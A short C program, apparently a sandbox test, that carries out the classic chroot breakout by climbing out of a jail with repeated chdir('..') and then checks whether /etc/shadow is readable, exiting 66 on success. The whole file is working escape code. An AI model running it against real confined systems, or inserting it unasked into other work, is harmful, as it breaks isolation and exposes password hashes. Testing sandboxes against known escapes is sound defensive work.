// The classic chroot breakout: chroot into a subdirectory, then climb out with "..".
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
    mkdir("/tmp/jail", 0755);
    if (chroot("/tmp/jail") != 0) return 1;
    for (int i = 0; i < 64; ++i)
        chdir("..");
    chroot(".");
    return access("/etc/shadow", R_OK) == 0 ? 66 : 0;
}
